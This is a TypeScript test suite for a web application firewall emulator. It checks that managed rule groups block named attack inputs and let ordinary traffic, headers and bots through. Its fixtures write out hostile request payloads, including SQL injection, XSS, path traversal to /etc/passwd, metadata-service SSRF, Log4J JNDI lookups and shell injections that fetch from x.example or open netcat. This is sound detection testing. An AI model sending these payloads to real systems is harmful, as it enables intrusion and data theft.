/** The managed groups: what each rule blocks, and that ordinary traffic passes all of them. */
import { describe, expect, test } from 'vitest'
import { ADDRESS_LISTS, type AddressFacts, NO_ADDRESS_FACTS } from '../address-facts.ts'
import { RateLimiter } from '../rate-limiter.ts'
import type { InspectedRequest } from '../request.ts'
import { type CompiledWebAcl, compileWebAcl } from '../web-acl.ts'
import { harmlessRequests } from './harmless.fixture.ts'
import { managedGroupOf, managedGroups } from './index.ts'

const VISIBILITY = { SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: 'm' }
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36'

const compiled = new Map<string, CompiledWebAcl>()
function aclOf(names: readonly string[]): CompiledWebAcl {
  const known = compiled.get(names.join())
  if (known) return known
  const acl = compileWebAcl(
    {
      arn: 'arn',
      name: 'all',
      labelNamespace: 'awswaf:111122223333:webacl:all:',
      defaultAction: { Allow: {} },
      rules: names.map((Name, Priority) => ({
        Name,
        Priority,
        Statement: { ManagedRuleGroupStatement: { VendorName: Name.startsWith('AWS') ? 'AWS' : 'Merlon', Name } },
        OverrideAction: { None: {} },
        VisibilityConfig: VISIBILITY,
      })),
    },
    {
      ipSet: () => undefined,
      regexPatternSet: () => undefined,
      ruleGroup: () => undefined,
      managedRuleGroup: managedGroupOf,
    },
  )
  compiled.set(names.join(), acl)
  return acl
}

const request = (varied: Partial<InspectedRequest> & { readonly agent?: string | null } = {}): InspectedRequest => {
  const { agent = BROWSER, headers = [], ...rest } = varied
  return {
    method: 'GET',
    path: '/shop/items',
    query: '',
    httpVersion: '1.1',
    body: '',
    isBodyTruncated: false,
    clientIp: '192.0.2.1',
    ...rest,
    headers: [['Host', 'shop.example'], ...(agent === null ? [] : [['User-Agent', agent] as const]), ...headers],
  }
}

const form = (body: string): Partial<InspectedRequest> => ({
  method: 'POST',
  headers: [['Content-Type', 'application/x-www-form-urlencoded']],
  body,
})
const json = (value: unknown): Partial<InspectedRequest> => ({
  method: 'POST',
  headers: [['Content-Type', 'application/json']],
  body: JSON.stringify(value),
})
const header = (name: string, value: string): Partial<InspectedRequest> => ({ headers: [[name, value]] })

const evaluated = (group: string, varied: Parameters<typeof request>[0]) =>
  aclOf([group]).evaluate(request(varied), { rates: new RateLimiter(), now: 0, token: {} })
const ruleOf = (group: string, varied: Parameters<typeof request>[0]) =>
  evaluated(group, varied).groups[0]!.terminatingRule?.ruleId

describe('each rule blocks what it is named after', () => {
  test.each<[string, string, Parameters<typeof request>[0]]>([
    ['Common', 'NoUserAgent_HEADER', { agent: null }],
    ['Common', 'UserAgent_BadBots_HEADER', { agent: 'sqlmap/1.8' }],
    ['Common', 'SizeRestrictions_QUERYSTRING', { query: `q=${'a'.repeat(2_048)}` }],
    ['Common', 'SizeRestrictions_Cookie_HEADER', header('Cookie', 'a'.repeat(10_241))],
    ['Common', 'SizeRestrictions_BODY', { ...form('a'.repeat(8_192)), isBodyTruncated: true }],
    ['Common', 'SizeRestrictions_URIPATH', { path: `/${'a'.repeat(1_024)}` }],
    ['Common', 'EC2MetaDataSSRF_QUERYARGUMENTS', { query: 'u=http%3A%2F%2F169.254.169.254%2Flatest' }],
    ['Common', 'EC2MetaDataSSRF_BODY', json({ url: 'http://2852039166/' })],
    ['Common', 'EC2MetaDataSSRF_COOKIE', header('Cookie', 'u=http://169.254.169.254/')],
    ['Common', 'GenericLFI_QUERYARGUMENTS', { query: 'f=..%252f..%252fetc/passwd' }],
    ['Common', 'GenericLFI_QUERYARGUMENTS', { query: 'f=/etc/shadow' }],
    ['Common', 'GenericLFI_BODY', form('f=..\\..\\windows\\win.ini')],
    ['Common', 'RestrictedExtensions_URIPATH', { path: '/backup/site.sql' }],
    ['Common', 'RestrictedExtensions_URIPATH', { path: '/.env' }],
    ['Common', 'GenericRFI_QUERYARGUMENTS', { query: 'page=http://203.0.113.9/x.txt' }],
    ['Common', 'CrossSiteScripting_QUERYARGUMENTS', { query: 'q=%3Cscript%3Ealert(1)' }],
    ['Common', 'CrossSiteScripting_BODY', json({ a: ['<img src=x onerror=alert(1)>'] })],
    ['Common', 'CrossSiteScripting_URIPATH', { path: '/%3Csvg/onload=alert(1)%3E' }],
    ['Common', 'CrossSiteScripting_COOKIE', header('Cookie', 'a="><script>x</script>')],
    ['Common', 'CrossSiteScripting_HEADER', header('Referer', 'https://a.example/?q=<svg onload=alert(1)>')],
    ['Common', 'CrossSiteScripting_HEADER', { agent: '"><script>alert(1)</script>' }],
    [
      'Common',
      'CrossSiteScripting_QUERYARGUMENTS',
      { query: 'q=%5Cu0025%5Cu0033%5Cu0043script%5Cu0025%5Cu0033%5Cu0045' },
    ],
    ['Common', 'CrossSiteScripting_QUERYARGUMENTS', { query: 'q=JTNDc2NyaXB0JTNFYWxlcnQoMSklM0M=' }],
    ['Common', 'GenericLFI_COOKIE', header('Cookie', 'lang=../../../../etc/passwd')],
    ['Common', 'GenericLFI_HEADER', header('Referer', 'https://a.example/..%2f..%2f..%2fetc%2fpasswd')],
    ['KnownBadInputs', 'JavaDeserializationRCE_BODY', json({ data: 'rO0ABXNyAA' })],
    ['KnownBadInputs', 'JavaDeserializationRCE_HEADER', header('Content-Type', '%{(#context=1).(exec)}')],
    [
      'KnownBadInputs',
      'Host_localhost_HEADER',
      { headers: [], path: '/', agent: BROWSER, ...header('Host', 'localhost:80') },
    ],
    ['KnownBadInputs', 'PROPFIND_METHOD', { method: 'PROPFIND' }],
    ['KnownBadInputs', 'ExploitablePaths_URIPATH', { path: '/a/..//.env' }],
    ['KnownBadInputs', 'Log4JRCE_HEADER', header('X-Api-Version', '${jndi:ldap://x.example/a}')],
    ['KnownBadInputs', 'Log4JRCE_QUERYSTRING', { query: 'q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D' }],
    ['KnownBadInputs', 'ReactJSRCE_BODY', json({ key: '$1:__proto__:then' })],
    ['SQLi', 'SQLi_QUERYARGUMENTS', { query: "id=1'%20or%201=1--" }],
    ['SQLi', 'SQLi_BODY', form("user=admin'--&password=x")],
    ['SQLi', 'SQLi_BODY', json({ id: '1 union select 1,2' })],
    ['SQLi', 'SQLi_COOKIE', header('Cookie', "id=1' or '1'='1")],
    ['SQLi', 'SQLi_HEADER', header('X-Forwarded-Host', "a' or 1=1--")],
    ['SQLi', 'SQLiExtendedPatterns_QUERYARGUMENTS', { query: 'user[$ne]=x' }],
    ['AdminProtection', 'AdminProtection_URIPATH', { path: '/x/../PHPMyAdmin/' }],
    ['Linux', 'LFI_URIPATH', { path: '/x/..%2f..%2fetc/passwd' }],
    ['Linux', 'LFI_QUERYSTRING', { query: 'f=/proc/self/environ' }],
    ['Unix', 'UNIXShellCommandsVariables_QUERYSTRING', { query: 'ip=1;cat%20/etc/hosts' }],
    ['Unix', 'UNIXShellCommandsVariables_BODY', form('ip=$(id)')],
    ['Unix', 'UNIXShellCommandsVariables_HEADER', header('X-A', '() { :; }; /bin/bash -c id')],
    ['Windows', 'WindowsShellCommands_QUERYARGUMENTS', { query: 'x=%26dir%20c:\\' }],
    ['Windows', 'PowerShellCommands_BODY', json({ a: 'powershell -enc aQBkAA' })],
    ['PHP', 'PHPHighRiskMethodsVariables_QUERYSTRING', { query: 'x=system(%27id%27)' }],
    ['PHP', 'PHPHighRiskMethodsVariables_BODY', form('x=<?php echo 1')],
    ['WordPress', 'WordPressExploitablePaths_URIPATH', { path: '/xmlrpc.php' }],
  ])('%s: %s', (group, rule, varied) => {
    expect(ruleOf(`AWSManagedRules${group}RuleSet`, varied)).toBe(rule)
  })

  // Evidence in headers, in encodings, and of families that AWS's groups do not name.
  test.each<[string, ...Parameters<typeof request>[0][]]>([
    [
      'CrossSiteScripting',
      header('Referer', 'https://x.example/"><svg onload=x()>'),
      { query: 'a=PHNjcmlwdD5hKCk8L3NjcmlwdD4' },
    ],
    ['SQLInjection', header('X-Id', "1' or 1=1--"), { query: 'a=%5Cu0027%20or%201=1--' }],
    ['DatabaseCode', { query: 'id=password::int' }, form('x=exec master..xp_cmdshell')],
    ['Script', { query: 'a=top["al"%2B"ert"](1)' }, form('x=alert.call(null,1)')],
    ['FileAccess', { query: 'f=%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd' }, header('X-Path', '/../../x/conf')],
    ['ShellCommand', { query: 'c=%3Bwget+x.example' }, form('c=;nc -l 1')],
    ['WindowsCommand', { query: 'c=for+%25a+in+(a,b)+do+x' }, form('c=|mshta http://x.example')],
    ['PhpCode', { query: 'c=%24a%281%29' }, form('c=[php]x[/php]')],
    ['JavaCode', header('Cookie', 'a=com.opensymphony.xwork2'), json({ a: 'java.io.FileOutputStream' })],
    ['NodeCode', json({ a: '_$$ND_FUNC$$_' }), { query: 'a=process.env' }],
    ['TemplateExpression', { query: 'a=%7B%7B7*7%7D%7D' }, json({ a: '#{9*9}' })],
    ['QueryOperator', { query: 'u=*)(|(objectclass=*)' }, json({ u: { $ne: 1 } })],
    ['DocumentDirective', { query: 'x=!ENTITY' }, form('x=<!--%23exec cmd="ls"-->')],
    ['ServerAddress', { query: 'u=gopher://x/' }, json({ u: 'http://localhost/' })],
    ['HeaderLine', { query: 'a=x%0d%0aSet-Cookie:a=1' }, { path: '/a%0aLocation:%20x' }],
    ['SessionFixation', { query: 'PHPSESSID=abc' }, { query: 'jsessionid=1' }],
    ['UploadedFileName', header('X-Filename', 'a.php'), header('X_Filename', 'b.jsp')],
  ])('Merlon: %s', (rule, ...attacks) => {
    for (const attack of attacks) {
      const names = aclOf(['MerlonManagedRulesInjectionRuleSet']).evaluate(request(attack), {
        rates: new RateLimiter(),
        now: 0,
        token: {},
      })
      expect([rule, names.action, names.labels]).toEqual([
        rule,
        'BLOCK',
        [expect.stringMatching(/^awswaf:managed:merlon:injection:/)],
      ])
    }
    expect(ruleOf('MerlonManagedRulesInjectionRuleSet', attacks[0]!)).toBe(rule)
  })

  test('with the label that AWS gives it', () => {
    expect(evaluated('AWSManagedRulesCommonRuleSet', { query: 'q=%3Cscript%3Ealert(1)' }).labels).toEqual([
      'awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments',
    ])
  })
})

describe('ordinary traffic passes all groups but that of administrative pages', () => {
  const all = aclOf(managedGroups.map(({ name }) => name).filter((name) => !/Admin/.test(name)))
  const order = {
    order: 'A-1742',
    customer: { name: "Miles O'Brien", mail: 'miles@example.com', address: "12 St John's Street; flat 3 & garage" },
    items: [{ sku: 'SKU-1000', price: 19.95, note: 'please wrap (and label) it: "for Ann" -- thanks!' }],
  }
  test.each<[string, Parameters<typeof request>[0]]>([
    ['a page', { path: '/shop/items', query: 'id=1742&sort=price&q=blue+shoes' }],
    [
      'headers of a browser',
      {
        headers: [
          ['Accept', 'text/html,application/xhtml+xml,*/*;q=0.8'],
          ['Accept-Language', 'en-GB,en;q=0.8'],
          ['Cookie', 'sid=8f2c7d1a; theme=dark; _ga=GA1.2.3'],
        ],
      },
    ],
    ['an order', json(order)],
    [
      'a comment',
      form(
        `text=${encodeURIComponent("It's great, isn't it? 1 or 2 of them; select the best one & order from the shop. Don't drop it!")}`,
      ),
    ],
    ['a search for code', { query: `q=${encodeURIComponent('for (let i = 0; i < n; i++) sum += a[i]')}` }],
    ['a link', { query: `next=${encodeURIComponent('https://shop.example/cart?step=2')}` }],
    ['a token', header('X-Request-Id', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.s-_a')],
    [
      'an upload',
      {
        method: 'POST',
        headers: [['Content-Type', 'multipart/form-data; boundary=X']],
        body: '--X\r\nContent-Disposition: form-data; name="photo"; filename="cat (1).jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n--X--\r\n',
      },
    ],
    [
      'binary data',
      { method: 'PUT', headers: [['Content-Type', 'application/octet-stream']], body: "\0\x01' or 1=1--<script>" },
    ],
    [
      'names and prose',
      form('name=D%27Angelo+%26+Sons&note=The+union+and+the+select+committee+met+at+5+or+6%3B+table+dropped'),
    ],
    ['static files', { path: '/static/app.3f2a.js' }],
  ])('%s', (_, varied) => {
    const verdict = all.evaluate(request(varied), { rates: new RateLimiter(), now: 0, token: {} })
    expect([verdict.action, verdict.groups.flatMap(({ terminatingRule }) => terminatingRule?.ruleId ?? [])]).toEqual([
      'ALLOW',
      [],
    ])
  })
})

test('10,000 requests with prose, names, JSON and code review pass all groups but those of pages and of bots', () => {
  const all = aclOf(managedGroups.map(({ name }) => name).filter((name) => !/Admin|Bot/.test(name)))
  const context = { rates: new RateLimiter(), now: 0, token: {} }
  for (const each of harmlessRequests(10_000)) {
    const { action, groups } = all.evaluate(each, context)
    expect([action, action === 'ALLOW' || [each, groups.at(-1)?.terminatingRule?.ruleId]]).toEqual(['ALLOW', true])
  }
})

describe('Groups on what is known about an address', () => {
  const facts: AddressFacts = {
    ...NO_ADDRESS_FACTS,
    isListed: (list, address) => address === `192.0.2.${ADDRESS_LISTS.indexOf(list) + 10}`,
    isBot: (address, bot) => address === '192.0.2.99' && bot === 'googlebot',
  }
  const verdictOf = (group: string, varied: Parameters<typeof request>[0], addresses?: AddressFacts) =>
    aclOf([group]).evaluate(request(varied), { rates: new RateLimiter(), now: 0, token: {}, addresses })

  test.each([
    ['AmazonIpReputationList', 'AWSManagedIPReputationList', 'amazon-ip-list', 10],
    ['AmazonIpReputationList', 'AWSManagedReconnaissanceList', 'amazon-ip-list', 11],
    ['AnonymousIpList', 'AnonymousIPList', 'anonymous-ip-list', 13],
    ['AnonymousIpList', 'HostingProviderIPList', 'anonymous-ip-list', 14],
  ])('%s: %s blocks the addresses of its list, and nothing without one', (group, rule, namespace, last) => {
    const from = { clientIp: `192.0.2.${last}` }
    const { groups, labels } = verdictOf(`AWSManagedRules${group}`, from, facts)
    expect([groups[0]!.terminatingRule?.ruleId, labels]).toEqual([rule, [`awswaf:managed:aws:${namespace}:${rule}`]])
    expect(verdictOf(`AWSManagedRules${group}`, from).action).toBe('ALLOW')
    expect(verdictOf(`AWSManagedRules${group}`, { clientIp: '192.0.2.1' }, facts).action).toBe('ALLOW')
  })

  test('The list of attackers by volume counts', () => {
    const { action, labels } = verdictOf('AWSManagedRulesAmazonIpReputationList', { clientIp: '192.0.2.12' }, facts)
    expect([action, labels]).toEqual(['ALLOW', ['awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList']])
  })

  const BOT = 'AWSManagedRulesBotControlRuleSet'
  const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
  test.each([
    ['curl/8.5.0', 'CategoryHttpLibrary', 'http_library', 'curl'],
    ['python-requests/2.32', 'CategoryHttpLibrary', 'http_library', 'python_requests'],
    [GOOGLEBOT, 'CategorySearchEngine', 'search_engine', 'googlebot'],
    ['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 'CategorySeo', 'seo', 'ahrefsbot'],
    ['Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2)', 'CategoryAI', 'ai', 'gptbot'],
    ['Scrapy/2.11 (+https://scrapy.org)', 'CategoryScrapingFramework', 'scraping_framework', 'scrapy'],
    ['Mozilla/5.0 (compatible; SomeBot/1.0)', 'CategoryMiscellaneous', 'miscellaneous', 'bot'],
  ])('Bot control: %s', (agent, rule, category, name) => {
    const { groups, labels } = verdictOf(BOT, { agent }, facts)
    expect(groups[0]!.terminatingRule?.ruleId).toBe(rule)
    const prefix = 'awswaf:managed:aws:bot-control:bot'
    expect(new Set(labels)).toEqual(
      new Set([`${prefix}:name:${name}`, `${prefix}:unverified`, `${prefix}:category:${category}`]),
    )
  })

  test('Bot control lets a bot pass from an address of its operator, with labels that say so', () => {
    const verified = verdictOf(BOT, { agent: GOOGLEBOT, clientIp: '192.0.2.99' }, facts)
    expect([verified.action, verified.labels]).toEqual([
      'ALLOW',
      ['awswaf:managed:aws:bot-control:bot:name:googlebot', 'awswaf:managed:aws:bot-control:bot:verified'],
    ])
    expect(verdictOf(BOT, { agent: 'Bingbot/2.0', clientIp: '192.0.2.99' }, facts).action).toBe('BLOCK')
  })

  test.each([
    ['SignalAutomatedBrowser', { agent: BROWSER.replace('Chrome', 'HeadlessChrome') }],
    ['SignalKnownBotDataCenter', { clientIp: '192.0.2.15' }],
    ['SignalNonBrowserUserAgent', { agent: 'ShopApp 3.1 (Android)' }],
    ['SignalNonBrowserUserAgent', { agent: null }],
  ])('Bot control: %s', (rule, varied) => {
    const { groups } = verdictOf(BOT, varied, facts)
    expect(groups[0]!.terminatingRule?.ruleId).toBe(rule)
  })

  test('Browsers pass, also those of telephones by Cubot', () => {
    for (const agent of [BROWSER, BROWSER.replace('X11; Linux x86_64', 'Linux; Android 12; CUBOT NOTE 20')])
      expect(verdictOf(BOT, { agent }, facts).action).toBe('ALLOW')
  })
})

test('Names of groups and of their rules are unique, and versions are named', () => {
  expect(new Set(managedGroups.map(({ vendor, name }) => `${vendor} ${name}`)).size).toBe(managedGroups.length)
  for (const { rules, versions } of managedGroups) {
    expect(new Set(rules.map(({ Name }) => Name)).size).toBe(rules.length)
    expect(versions.length).toBeGreaterThan(0)
  }
})

/** Of browsers, proxies, libraries, and tools that trace requests. */
const HARMLESS_HEADERS: readonly (readonly [string, string])[] = [
  ['Sec-CH-UA', '"Chromium";v="140", "Not=A?Brand";v="24", "Google Chrome";v="140"'],
  ['Sec-CH-UA-Platform', '"Windows"'],
  [
    'Accept',
    'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7',
  ],
  ['Accept-Language', 'de-CH,de;q=0.9,en;q=0.8,*;q=0.5'],
  ['If-None-Match', 'W/"5f3c-1a2b3c", "33a64df551425fcc55e4d42a148795d9f25f89d4"'],
  ['If-Modified-Since', 'Wed, 21 Oct 2015 07:28:00 GMT'],
  ['Range', 'bytes=0-499, 1000-'],
  ['Referer', 'https://www.example.com/search?q=rock+%26+roll%2C+select+a+union+and+order+by+mail&page=2#results'],
  ['Referer', "https://www.example.com/people/O'Brien%20%26%20D'Arcy?from=0&where=here"],
  ['Origin', 'https://www.example.com'],
  ['Forwarded', 'for=192.0.2.60;proto=http;by=203.0.113.43, for="[2001:db8:cafe::17]"'],
  ['Via', '1.1 vegur, 1.1 varnish (Varnish/6.0)'],
  ['traceparent', '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01'],
  ['tracestate', 'rojo=00f067aa0ba902b7,congo=t61rcWkgMzE'],
  ['X-Amz-User-Agent', 'aws-sdk-js/3.9 ua/2.1 os/linux#6.1 lang/js md/nodejs#20.1 api/s3#3.9 m/E,N'],
  ['User-Agent', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
  [
    'User-Agent',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1',
  ],
  ['Content-Disposition', 'attachment; filename="report (final).pdf"; filename*=UTF-8\'\'report%20%28final%29.pdf'],
  ['Content-Type', 'multipart/form-data; boundary="----=_Part_4_1289.1633"'],
  ['Cache-Control', 'max-age=0, no-cache, private="x"'],
  ['Link', '</style.css>; rel=preload; as=style'],
  ['X-Requested-With', 'XMLHttpRequest'],
  ['Priority', 'u=1, i'],
  ['Cookie', 'cart={"items":[{"id":5,"n":"Mom & Pop\'s"}]}; consent=a:1|b:0; _ga=GA1.2.1.1; path=/a/b'],
]

test.each(HARMLESS_HEADERS)('%s: %s passes the groups that look at headers', (name, value) => {
  const groups = ['AWSManagedRulesCommonRuleSet', 'AWSManagedRulesSQLiRuleSet', 'AWSManagedRulesKnownBadInputsRuleSet']
  for (const group of [...groups, 'MerlonManagedRulesInjectionRuleSet']) {
    const varied = name === 'User-Agent' ? { agent: value } : header(name, value)
    expect([group, ruleOf(group, varied)]).toEqual([group, undefined])
  }
})
